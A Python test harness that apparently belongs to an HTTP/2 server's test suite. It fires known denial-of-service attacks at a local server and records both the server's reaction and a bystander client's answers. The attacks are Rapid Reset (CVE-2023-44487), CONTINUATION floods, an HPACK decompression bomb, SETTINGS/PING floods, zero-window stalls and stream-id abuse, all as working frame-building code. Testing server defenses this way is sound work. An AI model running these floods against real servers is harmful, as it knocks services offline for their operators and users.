#!/usr/bin/python3
"""The known HTTP/2 attacks against a server, one per subcommand, with a bystander answered
throughout. Run with Debian's /usr/bin/python3 (python3-h2, python3-hyperframe, python3-hpack).

    h2_attack.py ATTACK --port PORT [--host 127.0.0.1] [--servername www.example.test]

Prints, for the test that runs it to check:
    OUTCOME kind=goaway|closed|refused|none code=ERROR_NAME ms=N detail=...
        what the server did to the offender and how long after the attack began
        (refused: the HPACK bomb's every stream refused, the connection kept)
    BYSTANDER answers=N statuses=200,... versions=2,...
        another client's answers from before the attack until after it
"""

import argparse
import struct
import sys
import time

import hpack

import h2_wire as w
from bystander import Bystander

# How long to wait for the server's reaction before calling it "none": long past the one
# second the tests allow, so a late reaction is told from none at all.
PATIENCE = 3.0


def refused(conn, streams):
    """Every stream the attack opened was ended by the server, with RST_STREAM or an error
    status, the connection kept: the outcome is "refused", timed now."""
    if not all(conn.stream_finished(sid) for sid in streams):
        return False
    statuses = conn.statuses()
    if all(conn.stream_reset(sid) or statuses.get(sid, "") >= "400" for sid in streams):
        conn.outcome.kind, conn.outcome.code, conn.outcome.ms = "refused", "-", conn.elapsed_ms()
    return True


def rapid_reset(conn, args):
    """CVE-2023-44487: a request and its cancellation, thousands of times, as fast as the
    connection carries them. Each stream costs the server work; none counts as open."""
    block = w.request_block(conn.authority)
    cancel = struct.pack(">I", 0x8)
    pairs = [w.frame(w.HEADERS, w.END_STREAM | w.END_HEADERS, sid, block) +
             w.frame(w.RST_STREAM, 0, sid, cancel) for sid in range(1, 2 * args.count, 2)]
    out = b"".join(pairs)
    conn.mark_start()
    written = conn.pump(out, time.monotonic() + PATIENCE)
    conn.wait(time.monotonic() + PATIENCE)
    return "pairs_sent=%d" % (written // len(pairs[0]))


def continuation_flood(conn, args, empty):
    """The 2024 class: a HEADERS frame without END_HEADERS, then CONTINUATION frames that
    never end the block; each carries a header (the list grows without bound) or nothing
    (the server spins on frames that add nothing)."""
    piece = b"" if empty else hpack.Encoder().encode(
        [hpack.NeverIndexedHeaderTuple("x-flood", "a" * 100)])
    start = w.frame(w.HEADERS, w.END_STREAM, 1, w.request_block(conn.authority))
    continuation = w.frame(w.CONTINUATION, 0, 1, piece)
    out = start + continuation * args.count
    conn.mark_start()
    written = conn.pump(out, time.monotonic() + PATIENCE)
    conn.wait(time.monotonic() + PATIENCE)
    return "continuations_sent=%d" % (max(0, written - len(start)) // len(continuation))


def hpack_bomb(conn, args):
    """One 4000-byte header inserted into the dynamic table, then referenced by its one-byte
    index thousands of times: a few kilobytes on the wire decode to tens of megabytes, on
    every stream that repeats the references."""
    references = b"\xbe" * args.count  # indexed field 62: the newest dynamic-table entry
    # A literal with incremental indexing (hpack's default): the entry lands at index 62.
    insert = hpack.Encoder().encode([("x-bomb", "b" * 4000)])
    streams = list(range(1, 2 * args.streams, 2))
    out = b""
    for sid in streams:
        block = w.request_block(conn.authority) + (insert if sid == 1 else b"") + references
        fragments = [block[i:i + 16384] for i in range(0, len(block), 16384)]
        for i, fragment in enumerate(fragments):
            last = i == len(fragments) - 1
            kind = w.HEADERS if i == 0 else w.CONTINUATION
            flags = (w.END_HEADERS if last else 0) | (w.END_STREAM if i == 0 else 0)
            out += w.frame(kind, flags, sid, fragment)
    conn.mark_start()
    conn.pump(out, time.monotonic() + PATIENCE, until=lambda: refused(conn, streams))
    statuses = conn.statuses()
    answered = [statuses.get(sid, "reset") for sid in streams if conn.stream_finished(sid)]
    return "decoded_per_stream=%d answers=%s" % (4039 * args.count, ",".join(answered) or "-")


def control_flood(conn, args, kind, read):
    """SETTINGS or PING frames by the thousand; each obliges the server to answer with an ACK.
    Not reading, with a tiny receive window, the ACKs pile up at the server."""
    if kind == "settings":
        one = w.settings_frame([(w.SETTINGS_ENABLE_PUSH, 0)])
    else:
        one = w.frame(w.PING, 0, 0, b"12345678")  # 8 bytes of opaque data
    out = one * args.count
    conn.mark_start()
    written = conn.pump(out, time.monotonic() + PATIENCE, read=read)
    conn.wait(time.monotonic() + PATIENCE, read=read)
    if not read and conn.outcome.decided():
        conn.drain()
    return "frames_sent=%d" % (written // len(one))


def zero_window(conn, args):
    """Streams asking for a large file, with every stream's window 0 and never a
    WINDOW_UPDATE: the server holds responses it may not send. send_timeout must end it."""
    conn.wait(time.monotonic() + 3, until=lambda: any(
        isinstance(f, w.hf.SettingsFrame) and "ACK" not in f.flags for f in conn.frames))
    block = w.request_block(conn.authority, path=args.path)
    streams = list(range(1, 2 * args.streams, 2))
    out = b"".join(w.frame(w.HEADERS, w.END_STREAM | w.END_HEADERS, sid, block) for sid in streams)
    conn.mark_start()
    conn.pump(out, time.monotonic() + 3)
    # The stall begins when the server has answered every request's head and can send no
    # more: from then on, send_timeout. (Preparing 100 responses may take it a while.)
    conn.wait(time.monotonic() + PATIENCE, until=lambda: len(conn.statuses()) >= len(streams))
    heads_ms = conn.elapsed_ms()
    if not conn.outcome.decided():
        conn.mark_start()
    conn.wait(time.monotonic() + PATIENCE + args.send_timeout, until=lambda: refused(conn, streams))
    data = sum(len(f.data) for f in conn.frames if isinstance(f, w.hf.DataFrame))
    answered = sum(1 for sid in streams if conn.statuses().get(sid) == "200")
    return "streams=%d answered_200=%d heads_after_ms=%d data_bytes=%d" % (
        len(streams), answered, heads_ms, data)


def stream_reuse(conn, args, first, second):
    """A request on stream `first`, answered, then HEADERS on stream `second`: the same
    (closed) id, a lower one, or (first=None) an even id no client may open."""
    block = w.request_block(conn.authority)
    if first is not None:
        conn.pump(w.frame(w.HEADERS, w.END_STREAM | w.END_HEADERS, first, block),
                  time.monotonic() + 3, until=lambda: conn.stream_finished(first))
        if not conn.stream_finished(first) or conn.outcome.decided():
            return "ERROR the first request on stream %d was not answered" % first
    conn.mark_start()
    conn.pump(w.frame(w.HEADERS, w.END_STREAM | w.END_HEADERS, second, block),
              time.monotonic() + PATIENCE, until=lambda: False)
    statuses = conn.statuses()
    return "first=%s offending=%d first_status=%s offending_status=%s" % (
        first, second, statuses.get(first, "-") if first else "-",
        "reset" if conn.stream_reset(second) else statuses.get(second, "-"))


ATTACKS = {
    "rapid-reset": (lambda c, a: rapid_reset(c, a), 10000),
    "continuation-flood": (lambda c, a: continuation_flood(c, a, empty=False), 30000),
    "continuation-empty": (lambda c, a: continuation_flood(c, a, empty=True), 200000),
    "hpack-bomb": (lambda c, a: hpack_bomb(c, a), 16000),
    "settings-flood": (lambda c, a: control_flood(c, a, "settings", read=True), 20000),
    "settings-flood-unread": (lambda c, a: control_flood(c, a, "settings", read=False), 20000),
    "ping-flood": (lambda c, a: control_flood(c, a, "ping", read=True), 20000),
    "ping-flood-unread": (lambda c, a: control_flood(c, a, "ping", read=False), 20000),
    "zero-window": (lambda c, a: zero_window(c, a), 0),
    "stream-reuse": (lambda c, a: stream_reuse(c, a, 1, 1), 0),
    "stream-decreasing": (lambda c, a: stream_reuse(c, a, 5, 3), 0),
    "stream-even": (lambda c, a: stream_reuse(c, a, None, 2), 0),
}


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--servername", default="www.example.test")
    parser.add_argument("--count", type=int, help="frames (or references) the attack sends")
    parser.add_argument("--streams", type=int, default=100, help="streams (zero-window, hpack-bomb)")
    parser.add_argument("--path", default="/large.bin", help="the large file (zero-window)")
    parser.add_argument("--send-timeout", type=float, default=1.0)
    parser.add_argument("--bystander-path", default="/")
    args = parser.parse_args()
    attack, count = ATTACKS[args.attack]
    args.count = args.count or count
    if args.attack == "hpack-bomb" and args.streams == 100:
        args.streams = 10

    bystander = Bystander(args.host, args.port, args.servername, args.bystander_path)
    unread = args.attack.endswith("-unread")
    settings = [(w.SETTINGS_INITIAL_WINDOW_SIZE, 0)] if args.attack == "zero-window" else []
    conn = w.Connection(args.host, args.port, args.servername, settings=settings,
                        receive_buffer=4096 if unread else None)
    # The bystander's first answer, before the attack, shows it works at all.
    bystander.ask()
    bystander.start()
    detail = attack(conn, args)
    if conn.outcome.kind == "closed":
        # A write that failed on the closed connection may have come before reading the
        # GOAWAY the server sent first: look for it.
        conn.drain(0.5)
    bystander.finish()
    conn.close()
    outcome = conn.outcome
    print("OUTCOME kind=%s code=%s ms=%s detail=%s" % (
        outcome.kind or "none", outcome.code or "-",
        outcome.ms if outcome.ms is not None else -1, detail.replace(" ", ";")))
    print(bystander.report())
    sys.stdout.flush()


if __name__ == "__main__":
    main()
